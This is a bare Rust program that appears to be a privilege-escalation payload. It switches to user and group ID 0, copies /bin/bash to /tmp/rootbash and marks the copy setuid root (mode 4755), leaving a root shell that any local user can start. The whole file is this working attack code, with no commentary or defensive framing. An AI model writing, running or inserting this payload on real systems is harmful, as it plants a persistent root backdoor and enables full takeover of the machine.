use nix::unistd::{setgid, setuid, Gid, Uid};
use std::fs;
use std::os::unix::fs::PermissionsExt;

fn main() {
    setuid(Uid::from_raw(0)).unwrap();
    setgid(Gid::from_raw(0)).unwrap();
    fs::copy("/bin/bash", "/tmp/rootbash").unwrap();
    fs::set_permissions("/tmp/rootbash", fs::Permissions::from_mode(0o4755)).unwrap();
}
